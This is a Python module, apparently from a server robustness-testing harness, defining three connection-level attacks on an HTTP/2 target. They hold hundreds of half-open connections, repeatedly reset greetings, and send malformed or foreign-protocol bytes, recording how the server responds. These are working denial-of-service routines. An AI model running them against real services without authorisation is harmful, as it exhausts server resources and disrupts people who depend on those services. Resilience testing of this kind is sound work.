"""Connections without number, half open, or of another protocol."""

import contextlib
import socket
import time

from ..attack import Strike, attack
from ..http2 import Http2Connection

__all__ = ["ATTACKS"]

_CONNECTIONS = "connections"

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

_OTHERS = (
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"POST /v2/models/x/infer HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500), b"SSH-2.0-x\r\n", bytes(100_000), b"\xff" * 100_000,
    _PREFACE[:10], _PREFACE, _PREFACE + b"\x00", b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
)  # fmt: skip


@attack(_CONNECTIONS)
def half_open_connections(strike: Strike) -> None:
    """500 connections that say nothing, half a preface, or a preface, and stay."""
    with contextlib.ExitStack() as held:
        for number in range(500):
            if not strike.left():
                break
            try:
                client = held.enter_context(socket.create_connection((strike.target.host, strike.target.port), 2))
                client.sendall((b"", _PREFACE[:12], _PREFACE)[number % 3])
                strike.answers.note("OPEN")
            except OSError as error:
                strike.answers.note("REFUSED", type(error).__name__)
        time.sleep(strike.left())


@attack(_CONNECTIONS)
def reset_connections(strike: Strike) -> None:
    """Connections that are reset in the middle of the greeting, one after another."""
    while strike.left():
        try:
            connection = Http2Connection(strike.target.host, strike.target.port)
            connection.reset()
            strike.answers.note("OPEN")
        except OSError as error:
            strike.answers.note("REFUSED", type(error).__name__)


@attack(_CONNECTIONS)
def other_protocols(strike: Strike) -> None:
    """HTTP/1.1, TLS, SSH, zeros and cut prefaces."""
    for sent in _OTHERS:
        with socket.create_connection((strike.target.host, strike.target.port), 2) as client:
            client.settimeout(0.2)
            try:
                client.sendall(sent)
                strike.answers.note("ANSWERED" if client.recv(1000) else "CLOSED")
            except TimeoutError:
                strike.answers.note("SILENT")
            except OSError:
                strike.answers.note("CLOSED")


ATTACKS = (half_open_connections, reset_connections, other_protocols)
